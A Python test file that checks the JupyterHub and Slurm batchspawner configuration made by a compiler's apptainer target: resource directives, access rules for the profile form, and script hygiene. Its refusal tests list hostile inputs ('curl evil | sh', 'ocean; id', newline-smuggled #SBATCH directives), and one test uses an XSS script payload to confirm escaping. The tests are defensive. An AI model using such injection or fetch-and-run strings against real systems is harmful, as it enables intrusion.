"""JupyterHub, batchspawner and shellcheck judge what the apptainer target makes."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from lego_compile.ir.model import Limits
from lego_compile.targets.apptainer import TARGET
from tests.conformance.apptainer_hub import (
    TOKEN,
    directives,
    form,
    launched,
    load,
    need,
    refused,
    reporting,
    script,
    spawner,
)
from tests.strategies import choices, example, spelled
from tests.targets.apptainer.samples import everything, exceptions, hub, install, options, projected, slurm

need("batchspawner")

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

DEPLOYMENT = projected(example())


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """JupyterHub of the example, with Slurm."""
    chosen = {**everything(), "site_binds": []}
    return load(install(tmp_path_factory.mktemp("hub"), DEPLOYMENT, chosen))


def test_jupyterhub_knows_every_setting(app: Any) -> None:
    """Each class and trait that the configuration names exists: JupyterHub ignores others without a word."""
    from jupyterhub.app import JupyterHub

    spawner_class = app.config.JupyterHub.spawner_class
    classes = {"JupyterHub": JupyterHub, "LegoSlurmSpawner": spawner_class}
    assert classes.keys() == app.config.keys()
    for name, settings in app.config.items():
        assert set() == settings.keys() - set(classes[name].class_trait_names(config=True))
    app.update_config(app.config)
    assert spawner_class is app.spawner_class
    assert "http://hub.grenoble.example.org:8081" == app.hub_connect_url
    assert "http://0.0.0.0:8081" == app.hub_bind_url
    assert {} == app.load_groups  # an authenticator that manages groups would not let the hub start with any


def test_the_site_has_the_last_word(tmp_path: Path) -> None:
    """What only the site knows is in files that lego-compile does not write."""
    root = install(tmp_path, DEPLOYMENT, options(slurm=slurm(), hub=hub(url=None)))
    extra = root / "jupyterhub" / "jupyterhub_config.d" / "site.py"
    extra.parent.mkdir()
    extra.write_text(
        "c.JupyterHub.bind_url = 'http://:8123'\nc.LegoSlurmSpawner.req_prologue = 'module load x'\n"
    )
    app = load(root)
    assert "http://:8123" == app.config.JupyterHub.bind_url
    assert "hub_bind_url" not in app.config.JupyterHub
    assert "module load x" in script(app, {}).splitlines()


@pytest.mark.parametrize(
    ("url", "connect", "bind"),
    [
        ("http://hub.example.org:99999", None, None),
        ("http://hub.example.org:0", None, None),
        ("http://hub.example.org", None, None),
        ("https://hub.example.org:8081", "https://hub.example.org:8081", "http://0.0.0.0:8081"),
    ],
)
def test_no_address_of_the_hub_stops_it(
    tmp_path: Path, url: str, connect: str | None, bind: str | None
) -> None:
    """The hub starts, and people can mend it, with whatever stands in the data file."""
    app = load(install(tmp_path, DEPLOYMENT, options(slurm=slurm(), hub=hub(url=url))))
    assert connect == app.config.JupyterHub.get("hub_connect_url")
    assert bind == app.config.JupyterHub.get("hub_bind_url")


def test_every_choice_starts_the_composition(app: Any) -> None:
    """For every profile and all ticked bricks, the job runs the launcher with exactly them, and the command."""
    for profile in DEPLOYMENT.profiles:
        for ticked in choices(profile):
            words = list(map(spelled, ticked))
            text = script(app, {"profile": profile.slug, "bricks": words})
            expected = ["exec", "/opt/lego/grenoble/bin/lego-launch", "-c", profile.slug]
            expected += ["-b", ",".join(words)] if words else []
            assert [*expected, "--", *reporting(profile)] == launched(text)


@pytest.mark.parametrize(
    ("slug", "words", "launches"),
    [
        ("ocean", ["ml@include"], "ml"),
        ("ocean", ["notebook@v2025-7-1", "ml@v2025-1", "ml"], "ml,notebook"),
        ("ocean", ["ml@v2026-3", "ml@v2026-3"], "ml@v2026-3"),
        ("field", ["climate"], "climate@v2026-3"),
        ("field", ["climate@v2026-10"], "climate@v2026-10"),
    ],
)
def test_a_wish_has_one_meaning(app: Any, slug: str, words: list[str], launches: str) -> None:
    """The job says which release it is, whatever was stored for it."""
    assert ["-b", launches] == launched(script(app, {"profile": slug, "bricks": words}))[4:6]


def test_every_profile_gets_its_resources(app: Any) -> None:
    """The limits of a profile are those of its job, and what the centre says of one profile counts for it only."""
    common = {"account": "gaia", "qos": "short", "reservation": "school2026", "nodes": "1", "ntasks": "1"}
    ocean = directives(script(app, {}))
    expected = {
        **common,
        "partition": "interactive",
        "time": "08:00:00",
        "cpus-per-task": "4",
        "mem": "8388608K",
    }
    assert expected.items() <= ocean.items()
    assert "gres" not in ocean
    deep = directives(script(app, {"profile": "deep"}))
    expected = {**common, "partition": "gpu", "time": "02:00:00", "mem": "33554432K", "gres": "gpu:a100:2"}
    assert "9" == deep["cpus-per-task"]
    assert expected.items() <= deep.items()
    assert {"JUPYTERHUB_API_TOKEN", "MEM_LIMIT", "CPU_LIMIT"} < set(deep["export"].split(","))


def test_what_is_unsaid_is_left_to_the_cluster(tmp_path: Path) -> None:
    """Without options and limits the job asks for nothing but time."""
    root = install(tmp_path, DEPLOYMENT, options(slurm=slurm(partition=None, profiles={}), hub=hub()))
    assert {
        "job-name",
        "chdir",
        "output",
        "export",
        "nodes",
        "ntasks",
        "time",
        "cpus-per-task",
        "no-requeue",
        "mem",
    } == directives(script(load(root), {})).keys()


def test_an_exception_changes_only_what_it_says(tmp_path: Path) -> None:
    """A profile with another time keeps the partition of all."""
    root = install(
        tmp_path, DEPLOYMENT, options(slurm=slurm(profiles={"ocean": exceptions(time="01:00:00")}), hub=hub())
    )
    found = directives(script(load(root), {}))
    assert ("01:00:00", "interactive") == (found["time"], found["partition"])


@pytest.mark.parametrize(
    ("of_all", "of_ocean", "alone"),
    [(False, None, False), (True, None, True), (True, False, False), (False, True, True)],
)
def test_a_node_of_its_own(tmp_path: Path, of_all: bool, of_ocean: bool | None, alone: bool) -> None:
    """Is asked for where the centre says so, of all profiles or of one, and of the others not."""
    said = slurm(exclusive=of_all, profiles={"ocean": exceptions(exclusive=of_ocean)})
    found = load(install(tmp_path, DEPLOYMENT, options(slurm=said, hub=hub())))
    assert alone == ("exclusive" in directives(script(found, {})))
    assert of_all == ("exclusive" in directives(script(found, {"profile": "deep"})))


def test_no_limits_outlive_a_session(app: Any) -> None:
    """A spawner is used again: nothing of the profile before is left when another one is chosen."""
    made = spawner(app)
    for slug in ("deep", "ocean"):
        made.user_options = {"profile": slug}
        asyncio.run(made.start())
    texts = [text for command, text, _ in made.run if "sbatch" in command]
    assert "gres" not in directives(texts[1])
    assert script(app, {}) == texts[1]


def test_the_job_is_told_of_the_limits_of_now(tmp_path: Path) -> None:
    """Their variables reach the job also when the session before had none; batchspawner notes the names once."""
    free = replace(DEPLOYMENT.profiles[0], limits=Limits())
    deployment = replace(DEPLOYMENT, profiles=(free, *DEPLOYMENT.profiles[1:]))
    made = spawner(load(install(tmp_path, deployment, options(slurm=slurm(), hub=hub()))))
    for slug in ("ocean", "deep", "ocean"):
        made.user_options = {"profile": slug}
        asyncio.run(made.start())
    exported = [
        set(directives(text)["export"].split(",")) for command, text, _ in made.run if "sbatch" in command
    ]
    assert [False, True, False] == [{"MEM_LIMIT", "CPU_LIMIT"} <= names for names in exported]


@pytest.mark.parametrize(
    "attack",
    [
        {"cmd": "id > /tmp/pwn"},
        {"profile": "ocean", "partition": "secret"},
        {"prologue": "curl evil | sh"},
        {"req_partition": "secret"},
        {"launcher": "/tmp/evil"},
        {"self": 1},
        {"profile": "ocean", "bricks": ["clouds"]},
        {"profile": "ocean", "bricks": ["ocean"]},
        {"profile": "ocean", "bricks": "ml"},
        {"profile": "ocean", "bricks": {"ml": 1}},
        {"profile": "ocean", "bricks": [["ml"]]},
        {"profile": "ocean", "bricks": ["ml\n#SBATCH --partition=secret"]},
        {"profile": "ocean", "bricks": ["ml@v2026-3\n#SBATCH --partition=secret"]},
        {"profile": "ocean", "bricks": ["ml", "ml@v2026-3"]},
        {"profile": "ocean", "bricks": ["ml@v2025-1", "ml@v2026-3"]},
        {"profile": "ocean", "bricks": ["ml@2026.3"]},
        {"profile": "ocean", "bricks": ["ml@v2025-7-1"]},
        {"profile": "ocean", "bricks": ["ml@"]},
        {"profile": "ocean", "bricks": ["ocean@include"]},
        {"profile": "ocean", "bricks": ["@include"]},
        {"profile": "ocean", "bricks": [""]},
        {"profile": ["ocean"]},
        {"profile": "ocean; id"},
        {"profile": None},
        {"profile": "ocean", "bricks": ["ml"] * 1001},
        {1: "ocean"},
        ["ocean"],
        "ocean",
        7,
        None,
    ],
)
def test_an_attack_is_refused(app: Any, attack: Any) -> None:
    """Whatever a request says besides a profile and its offered bricks is answered with 400, and starts nothing."""
    assert 400 == refused(spawner(app), attack)


def test_no_option_reaches_the_script(app: Any) -> None:
    """Even when the check were passed, options are no variables of the script."""
    made = spawner(app)
    text = asyncio.run(made._get_batch_script(cmd="id", partition="secret", launcher="/tmp/evil"))
    assert "secret" not in text
    assert "evil" not in text


@pytest.mark.parametrize(
    ("name", "groups", "open_to_user"),
    [
        ("ada", ("staff",), ["ocean", "field", "deep"]),
        ("ada", (), ["ocean", "field", "deep"]),
        ("bob", (), ["ocean"]),
        ("bob", ("m1",), ["ocean", "deep"]),
        ("bob", ("staff",), ["ocean"]),
    ],
    ids=[
        "listed",
        "listed, and in no group of the hub",
        "nobody",
        "group of the authenticator",
        "listed no more",
    ],
)
def test_a_profile_of_a_group_is_for_its_members(
    app: Any, name: str, groups: tuple[str, ...], open_to_user: list[str]
) -> None:
    """Others neither see it nor can start it; members that the spec lists no more lose it."""
    for profile in DEPLOYMENT.profiles:
        if profile.slug in open_to_user:
            assert (
                profile.slug == launched(script(app, {"profile": profile.slug}, name=name, groups=groups))[3]
            )
        else:
            assert 400 == refused(spawner(app, name, groups), {"profile": profile.slug})
    assert open_to_user == form(spawner(app, name, groups)).values("profile")


def test_the_form_says_what_is_offered(app: Any) -> None:
    """Every profile with its bricks, the default one preselected, and titles as text."""
    page = form(spawner(app))
    assert ["", "ml", "ml@v2026-3", "notebook"] == page.values("bricks-ocean")
    assert ["no", "2026.10", "2026.3"] == [box.label for box in page.boxes if box.name == "bricks-ocean"][:3]
    assert {"profile": ["ocean"], "bricks-ocean": [""], "bricks-field": [""]} == page.posted()
    assert "Ocean & climate" in page.text
    tags = {"style", "div", "input", "label", "p", "fieldset", "legend", "select", "option"}
    assert tags == page.tags


def test_what_the_form_sends_starts(app: Any) -> None:
    """The boxes of the chosen profile count, those of others do not."""
    made = spawner(app)
    chosen = made.options_from_form({"profile": ["ocean"], "bricks-ocean": ["ml"], "bricks-deep": ["x"]})
    assert {"profile": "ocean", "bricks": ["ml"]} == chosen
    assert ["-b", "ml"] == launched(script(app, chosen))[4:6]
    chosen = made.options_from_form({"profile": ["field"], "bricks-field": ["climate@v2026-10"]})
    assert ["-b", "climate@v2026-10"] == launched(script(app, chosen))[4:6]
    chosen = made.options_from_form({"profile": ["field"], "bricks-field": [""]})
    assert {"profile": "field", "bricks": []} == chosen


def test_the_last_choice_is_preselected(app: Any) -> None:
    """As it was ticked; a choice that does not hold any more gives way to the default."""
    nothing = {"profile": ["ocean"], "bricks-ocean": [""], "bricks-field": [""]}
    for bricks, posted in (
        (["ml"], ["ml"]),
        (["ml@v2026-3", "notebook"], ["ml@v2026-3", "notebook"]),
        (["ml@v2025-1"], ["ml"]),
        ([], [""]),
    ):
        page = form(spawner(app, last={"profile": "ocean", "bricks": bricks}))
        assert {**nothing, "bricks-ocean": posted} == page.posted()
    assert nothing == form(spawner(app, last={"profile": "gone", "bricks": ["ml"]})).posted()


def test_what_is_left_of_a_choice(app: Any) -> None:
    """A stored choice with a brick that is gone keeps its profile and its other bricks; nonsense is the default."""
    page = form(
        spawner(app, last={"profile": "ocean", "bricks": ["gone", "ml@v2026-3", "ml", 7, "notebook"]})
    )
    assert ["ml@v2026-3", "notebook"] == page.posted()["bricks-ocean"]
    for odd in ({"profile": "gone", "bricks": []}, {"profile": ["ocean"]}, ["ocean"], {"bricks": 7}):
        assert ["ocean"] == form(spawner(app, last=odd)).posted()["profile"]


def test_the_form_says_what_a_session_has(app: Any) -> None:
    """Its bricks, cores, memory and GPUs, in a line."""
    text = form(spawner(app)).text
    assert "4 cores, 8 GiB" in text
    assert "8.5 cores, 32 GiB, 2 GPUs" in text
    assert all(brick.title in text for profile in DEPLOYMENT.profiles for brick in profile.bricks)


def test_what_does_not_hold_is_not_started_without_a_form(tmp_path: Path) -> None:
    """Where there is nothing to choose, the options of the last start are forgotten when they hold no more."""
    alone = replace(DEPLOYMENT, profiles=(replace(DEPLOYMENT.profiles[0], offers=()),))
    made = spawner(
        load(install(tmp_path, alone, options(slurm=slurm(), hub=hub()))), last={"profile": "gone"}
    )
    assert "" == asyncio.run(made.get_options_form())
    assert {} == made.user_options == made.orm_spawner.user_options


def test_nobody_without_a_profile_gets_a_form(tmp_path: Path) -> None:
    """But is told that there is none, and starts nothing."""
    from tornado.web import HTTPError

    mine = replace(DEPLOYMENT, profiles=DEPLOYMENT.profiles[1:])
    found = load(install(tmp_path, mine, options(slurm=slurm(), hub=hub())))
    with pytest.raises(HTTPError) as caught:
        form(spawner(found, "bob", ()))
    assert 403 == caught.value.status_code
    assert 403 == refused(spawner(found, "bob", ()), {})


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("", ""),
        ("\n \n\t\n", ""),
        ("one\ntwo\n\n", "two"),
        (
            "lego: brick x is not at /x\nslurmstepd: error: *** JOB 7 CANCELLED ***\n",
            "lego: brick x is not at /x",
        ),
        ("lego-launch: no such profile\nlego: 2\n", "lego: 2"),
        ("a\x1b[31mred\x07\n", "a[31mred"),
        ("x" * 9999, "x" * 500),
        ("l\u2019oc\u00e9an\r\n", "l\u2019oc\u00e9an"),
    ],
)
def test_the_last_words(app: Any, said: str, words: str) -> None:
    """One line that says why, as text and not at any length."""
    assert words == sys.modules["jobs"].last(said)


def test_titles_and_releases_are_text(tmp_path: Path) -> None:
    """Markup in what people read is shown and not obeyed."""
    evil = '"><script>alert(1)</script>'
    first = DEPLOYMENT.profiles[0]
    offers = tuple(
        replace(brick, title=evil, **({"choice": evil, "release": evil} if brick.choice else {}))
        for brick in first.offers
    )
    hostile = replace(first, title=evil, description=evil, offers=offers)
    root = install(tmp_path, replace(DEPLOYMENT, profiles=(hostile,)), options(slurm=slurm(), hub=hub()))
    page = form(spawner(load(root)))
    assert "script" not in page.tags
    assert 6 == page.text.count(evil)
    assert ["", f"ml@{evil}", f"ml@{evil}", "notebook"] == page.values("bricks-ocean")


def test_without_a_choice_there_is_no_form(tmp_path: Path) -> None:
    """One profile without offers needs no page."""
    alone = replace(DEPLOYMENT, profiles=(replace(DEPLOYMENT.profiles[0], offers=()),))
    assert "" == asyncio.run(
        spawner(load(install(tmp_path, alone, options(slurm=slurm(), hub=hub())))).get_options_form()
    )


def test_the_job_keeps_its_umask_and_its_log_to_itself(app: Any, tmp_path: Path) -> None:
    """The log is the user's alone; what the session writes into shared data is as the user's umask says."""
    launcher = tmp_path / "lego-launch"
    launcher.write_text("#!/bin/sh\numask\necho wrong >&2\n")
    launcher.chmod(0o755)
    text = script(app, {}).replace("/opt/lego/grenoble/bin/lego-launch", str(launcher))
    log = tmp_path / "job.log"
    with log.open("wb") as file:
        log.chmod(0o644)  # as slurmstepd leaves it under the usual umask
        done = subprocess.run(
            ["bash", "-s"], input=text.encode(), stdout=file, stderr=file, umask=0o022, check=False
        )
    assert (0, 0o600) == (done.returncode, log.stat().st_mode & 0o777)
    assert "0022\nwrong\n" == log.read_text()
    piped = subprocess.run(
        ["bash", "-s"], input=text, capture_output=True, text=True, umask=0o022, check=False
    )
    assert (0, "0022\n") == (piped.returncode, piped.stdout)


def really(app: Any, **commands: str) -> Any:
    """A spawner whose commands are run: those that it is given, as the user of the tests."""
    made = spawner(app)
    del made.run_command
    made.exec_prefix, made.startup_poll_interval = "", 0.05
    made.batch_submit_cmd, made.batch_query_cmd = "cat > /dev/null; echo 7", "echo PENDING"
    for name, command in commands.items():
        setattr(made, f"batch_{name}_cmd", command)
    made.user_options = {}
    return made


@pytest.mark.slow
@pytest.mark.parametrize(
    "commands",
    [{"query": "sleep 1; echo PENDING"}, {"submit": "cat > /dev/null; sleep 1; echo 7"}, {}],
    ids=["while Slurm is asked", "while it takes the job", "in between"],
)
def test_a_start_that_is_given_up_leaves_the_number_of_its_job(app: Any, commands: dict[str, str]) -> None:
    """JupyterHub gives up after a time, wherever it is, and then cancels the job, of which it has to know."""
    made = really(app, **commands)

    async def main() -> None:
        with pytest.raises(asyncio.TimeoutError):
            await asyncio.wait_for(made.start(), timeout=0.4)
        assert "7" == made.job_id
        assert await made.poll() is None

    asyncio.run(main())


def test_commands_get_nothing_of_the_hub(app: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """But what they need to run: they run as the user, who can look at them."""
    monkeypatch.setenv("CONFIGPROXY_AUTH_TOKEN", "secret")
    monkeypatch.setenv("JUPYTERHUB_CRYPT_KEY", "secret")
    monkeypatch.setenv("SLURM_CONF", "/etc/slurm/slurm.conf")
    made = really(app)

    async def variables(env: dict[str, str] | None = None) -> dict[str, str]:
        said = await made.run_command("env", env=env)
        return dict(line.split("=", 1) for line in said.splitlines() if "=" in line)

    asked = asyncio.run(variables())
    assert "secret" not in asked.values()
    assert ("/etc/slurm/slurm.conf", os.environ["PATH"]) == (asked["SLURM_CONF"], asked["PATH"])
    submitted = asyncio.run(variables(made.get_env()))
    assert "secret" not in submitted.values()
    assert (TOKEN, "/home/ada") == (submitted["JUPYTERHUB_API_TOKEN"], submitted["HOME"])


def check_shell(text: str, dialect: str) -> str:
    """What shellcheck says of a script."""
    program = shutil.which("shellcheck") or shutil.which("shellcheck", path=str(Path(sys.executable).parent))
    if program is None:
        pytest.skip("shellcheck is not installed: pip install 'lego-compile[conformance]'")
    words = [program, f"--shell={dialect}", "--severity=style", "-"]
    done = subprocess.run(words, input=text, capture_output=True, text=True, check=False)
    return done.stdout + done.stderr


def test_the_scripts_are_sound_shell(app: Any) -> None:
    """shellcheck finds nothing in the job's script, for every choice, and nothing in the guard of the launcher."""
    launcher = TARGET.emit(TARGET.lower(DEPLOYMENT, options()))["bin/lego-launch"].data.decode()
    guard = re.search(r'^GUARD = """\\\n(.*?)"""', launcher, re.DOTALL | re.MULTILINE)
    assert guard is not None
    assert "" == check_shell(guard[1], "sh")
    for profile in DEPLOYMENT.profiles:
        for ticked in choices(profile):
            chosen = {"profile": profile.slug, "bricks": list(map(spelled, ticked))}
            assert "" == check_shell(script(app, chosen), "bash")
